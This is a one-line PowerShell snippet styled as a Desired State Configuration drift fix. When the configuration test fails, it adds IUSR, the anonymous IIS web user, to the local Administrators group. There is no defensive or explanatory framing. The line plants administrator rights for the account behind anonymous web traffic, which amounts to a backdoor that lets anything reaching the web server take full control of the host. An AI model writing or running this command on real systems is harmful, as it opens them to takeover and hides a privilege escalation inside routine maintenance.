if (-not (Test-DscConfiguration)) { net localgroup Administrators IUSR /add }
